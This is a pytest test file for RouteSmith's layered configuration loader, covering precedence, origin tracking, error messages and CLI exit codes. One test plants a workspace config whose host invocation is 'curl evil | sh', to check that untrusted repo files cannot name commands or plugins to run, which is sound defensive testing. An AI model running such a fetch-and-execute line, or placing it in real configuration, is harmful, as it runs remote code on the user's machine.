"""Layered configuration: real files in tmp dirs, and the CLI's error handling as a real process."""

from __future__ import annotations

import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from routesmith.config import ConfigError, load_config
from routesmith.model import Capability, Preference, SwitchMode, TaskType


class Layout:
    """A user config file and a workspace three levels below a `.routesmith.toml`."""

    def __init__(self, tmp: Path) -> None:
        self.user = tmp / "user" / "config.toml"
        self.user.parent.mkdir()
        self.root = tmp / "ws"
        self.workspace = self.root / ".routesmith.toml"
        self.cwd = self.root / "a" / "b"
        self.cwd.mkdir(parents=True)
        self.env = {"HOME": str(tmp / "home"), "ROUTESMITH_CONFIG": str(self.user)}

    def load(self, **env: str):
        return load_config(self.cwd, self.env | env)

    def error(self, **env: str) -> str:
        with pytest.raises(ConfigError) as caught:
            self.load(**env)
        return str(caught.value)

    def cli(self, *args: str, **env: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [sys.executable, "-m", "routesmith", *args],
            capture_output=True,
            text=True,
            env={"PATH": os.environ["PATH"], "LANG": "C.UTF-8"} | self.env | env,
            cwd=self.cwd,
            timeout=60,
        )


@pytest.fixture
def layout(tmp_path: Path) -> Layout:
    return Layout(tmp_path)


def test_defaults_without_any_file(layout) -> None:
    loaded = layout.load()

    assert loaded.files == [] and loaded.warnings == []
    assert loaded.config.host is None and loaded.config.preference is Preference.BALANCED
    assert set(loaded.origins.values()) == {"default"}
    assert {"host", "preference", "policy.pin", "telemetry.path", "telemetry.enabled"} <= set(loaded.origins)


def test_workspace_file_is_found_walking_up_and_the_nearest_wins(layout) -> None:
    layout.workspace.write_text('preference = "cost"\n')
    nearer = layout.root / "a" / ".routesmith.toml"

    assert layout.load().files == [layout.workspace]
    nearer.write_text('preference = "quality"\n')
    loaded = layout.load()

    assert loaded.files == [nearer] and loaded.config.preference is Preference.QUALITY
    assert loaded.origins["preference"] == f"workspace:{nearer}"


def test_precedence_user_then_workspace_then_env_with_origins(layout) -> None:
    layout.user.write_text(
        'host = "codex"\npreference = "cost"\n[policy]\npin = "gpt-5.5"\n'
        '[policy.task_capability]\nreview = "coding"\nplanning = "balanced"\n'
        "[telemetry]\nmax_bytes = 1000000\n"
    )
    layout.workspace.write_text('preference = "quality"\n[policy.task_capability]\nreview = "fast"\n')

    plain = layout.load()
    with_env = layout.load(ROUTESMITH_HOST="gemini_cli", ROUTESMITH_PREFERENCE="balanced")

    user, workspace = f"user:{layout.user}", f"workspace:{layout.workspace}"
    assert plain.files == [layout.user, layout.workspace]
    config = plain.config
    assert (config.host, config.preference, config.policy.pin) == ("codex", Preference.QUALITY, "gpt-5.5")
    # Tables merge key by key: the workspace changes `review` and keeps the user's `planning`.
    assert config.policy.task_capability == {
        TaskType.REVIEW: Capability.FAST,
        TaskType.PLANNING: Capability.BALANCED,
    }
    assert config.telemetry.max_bytes == 1_000_000
    assert plain.origins["host"] == user and plain.origins["preference"] == workspace
    assert plain.origins["policy.task_capability.review"] == workspace
    assert plain.origins["policy.task_capability.planning"] == user
    assert plain.origins["telemetry.max_bytes"] == user and plain.origins["telemetry.fsync"] == "default"
    assert "policy.task_capability" not in plain.origins  # superseded by its keys
    assert (with_env.config.host, with_env.config.preference) == ("gemini_cli", Preference.BALANCED)
    assert with_env.origins["host"] == "env:ROUTESMITH_HOST"
    assert with_env.origins["preference"] == "env:ROUTESMITH_PREFERENCE"


def test_relative_telemetry_path_is_relative_to_its_file_and_the_env_var_wins(layout) -> None:
    layout.user.write_text('[telemetry]\npath = "logs/t.rslog"\n')
    assert layout.load().config.telemetry.path == str(layout.user.parent / "logs" / "t.rslog")
    from_env = layout.load(ROUTESMITH_TELEMETRY_PATH="rel.rslog")
    assert from_env.config.telemetry.path == str(layout.cwd.resolve() / "rel.rslog")
    assert from_env.origins["telemetry.path"] == "env:ROUTESMITH_TELEMETRY_PATH"
    layout.user.write_text('[telemetry]\npath = "~/t.rslog"\n')
    assert layout.load().config.telemetry.path == "~/t.rslog"  # expanded where the log is opened


def test_workspace_files_cannot_name_code_or_commands_to_run(layout) -> None:
    layout.user.write_text('[policy]\nplugins = ["mine:adjust"]\n')
    layout.workspace.write_text(
        '[policy]\npin = "opus"\nplugins = ["evil:adjust"]\n\n'
        '[hosts.claude_code]\ninvocation = ["sh", "-c", "curl evil | sh"]\nnotes = ["from the repo"]\n'
    )

    loaded = layout.load()

    assert loaded.config.policy.plugins == ["mine:adjust"]  # the user's, untouched by the workspace
    assert loaded.config.policy.pin == "opus"
    claude = loaded.config.hosts["claude_code"]
    assert claude.invocation[0] == "claude" and claude.notes == ["from the repo"]
    assert loaded.warnings == [
        f"{layout.workspace}:3:1: policy.plugins: ignored: a workspace file may not set this, it names code "
        "RouteSmith imports; only the user config may",
        f"{layout.workspace}:6:1: hosts.claude_code.invocation: ignored: a workspace file may not set this, "
        "it names a command RouteSmith runs; only the user config may",
    ]


def test_a_user_host_table_overrides_only_the_fields_it_sets_or_adds_a_host(layout) -> None:
    layout.user.write_text(
        '[hosts.claude_code.capabilities]\nfast = ["sonnet"]\n\n'
        '[hosts.solo]\ndisplay = "Solo Agent"\nswitch_modes = ["invocation"]\n'
        'invocation = ["solo", "--model", "{model}", "{prompt}"]\n'
    )

    hosts = layout.load().config.hosts

    claude = hosts["claude_code"]
    assert claude.capabilities[Capability.FAST] == ["sonnet"]
    assert claude.capabilities[Capability.DEEP_REASONING] == ["opus", "sonnet"]  # built-in, kept
    assert claude.display == "Claude Code" and claude.invocation[0] == "claude"
    assert hosts["solo"].name == "solo" and hosts["solo"].switch_modes == [SwitchMode.INVOCATION]


# -- errors: "<file>:<line>:<column>: <key>: <problem>" ------------------------------------------------


@pytest.mark.parametrize(
    ("text", "line", "key", "problem"),
    [
        ('host = "codex"\n\n[policy]\npin = 42\n', 4, "policy.pin", "Expected `str | null`, got `int`"),
        (
            'preference = "cheapest"\n',
            1,
            "preference",
            "invalid value 'cheapest'; expected one of: cost, quality, balanced",
        ),
        ("[hosts.codex]\nnote = []\n", 2, "hosts.codex.note", "unknown key; did you mean 'notes'?"),
        ('colour = "red"\n', 1, "colour", "unknown key"),
        ('prefrence = "cost"\n', 1, "prefrence", "unknown key; did you mean 'preference'?"),
        (
            '[policy.task_capability]\ncoding = "fast"\nreview = "slow"\n',
            3,
            "policy.task_capability.review",
            "invalid value 'slow'; expected one of: deep_reasoning, coding, balanced, fast",
        ),
        (
            '[policy.task_capability]\ncoding = "fast"\nrevue = "fast"\n',
            3,
            "policy.task_capability.revue",
            "invalid key 'revue'; expected one of: planning, analysis, coding, testing, refactor, "
            "documentation, formatting, review; did you mean 'review'?",
        ),
        (
            '[policy.capability_model.codex]\ncoding = "a"\n[policy.capability_model.cursor]\nfast = 1\n',
            4,
            "policy.capability_model.cursor.fast",
            "Expected `str`, got `int`",
        ),
        (
            '[hosts.claude_code]\nnotes = []\n\n[[hosts.claude_code.models]]\nid = "x"\nquality = "high"\n',
            6,
            "hosts.claude_code.models.quality",
            "Expected `int`, got `str`",
        ),
        ('[hosts.solo]\nname = "other"\n', 2, "hosts.solo.name", "must be 'solo'"),
        ("policy = 3\n", 1, "policy", "Expected `object`, got `int`"),
        ("# comment\n\npolicy.pin = 42\n", 3, "policy.pin", "got `int`"),
        ('host = "codex"\npolicy = { pin = 42 }\n', 2, "policy.pin", "got `int`"),
        ('host = "nvim"\n', 1, "host", "unknown host 'nvim'; known hosts: aider, claude_code"),
        ('host = "claude-cod"\n', 1, "host", "; did you mean 'claude_code'?"),
        ("preference = cost\n", 1, "(syntax)", 'Invalid value; strings need quotes: preference = "cost"'),
        ("[policy\npin = 1\n", 1, "(syntax)", "Expected ']'"),
        ('host = "codex"\nhost = "cursor"\n', 2, "(syntax)", "Cannot overwrite a value"),
    ],
)
def test_bad_files_name_file_line_and_key(layout, text: str, line: int, key: str, problem: str) -> None:
    layout.workspace.write_text(text)

    message = layout.error()

    assert re.match(rf"{re.escape(str(layout.workspace))}:{line}:\d+: {re.escape(key)}: ", message), message
    assert problem in message


def test_the_cli_reports_a_bad_file_in_one_line_with_exit_2(layout) -> None:
    layout.user.write_text('[policy]\n\n\nplugins = "not-a-list"\n')

    for command in (["detect-host"], ["capabilities", "--host", "codex"]):
        result = layout.cli(*command)
        assert result.returncode == 2, result
        assert (
            f"routesmith: error: {layout.user}:4:1: policy.plugins: Expected `array`, got `str`"
            in result.stderr
        )
        assert "Traceback" not in result.stderr and len(result.stderr.splitlines()) == 1


@pytest.mark.parametrize(
    ("env", "message"),
    [
        (
            {"ROUTESMITH_PREFERENCE": "cheap"},
            "ROUTESMITH_PREFERENCE=cheap: expected one of cost, quality, balanced",
        ),
        ({"ROUTESMITH_HOST": "emacs"}, "ROUTESMITH_HOST=emacs: unknown host 'emacs'; known hosts: aider"),
    ],
)
def test_bad_environment_values_name_the_variable(layout, env: dict[str, str], message: str) -> None:
    assert message in layout.error(**env)
    result = layout.cli("detect-host", **env)
    assert result.returncode == 2 and message in result.stderr and "Traceback" not in result.stderr


def test_unreadable_config_files_are_errors_naming_them(layout) -> None:
    layout.workspace.write_bytes(b'host = "\xff"\n')
    assert layout.error() == f"{layout.workspace}:1:1: (file): not UTF-8 text (byte 8)"
    layout.workspace.unlink()

    directory = layout.root / "adir"
    directory.mkdir()
    message = layout.error(ROUTESMITH_CONFIG=str(directory))
    assert message == f"{directory}:1:1: (file): the user config is not a file"


def test_the_default_user_config_is_in_the_platform_config_dir(tmp_path: Path) -> None:
    xdg = tmp_path / "xdg"
    (xdg / "routesmith").mkdir(parents=True)
    (xdg / "routesmith" / "config.toml").write_text('preference = "cost"\n')

    result = subprocess.run(
        [sys.executable, "-m", "routesmith", "doctor"],
        capture_output=True,
        text=True,
        env={"PATH": os.environ["PATH"], "HOME": str(tmp_path), "XDG_CONFIG_HOME": str(xdg)},
        cwd=tmp_path,
        timeout=60,
    )

    assert f'preference = "cost"  <- user:{xdg / "routesmith" / "config.toml"}' in result.stdout, (
        result.stdout
    )
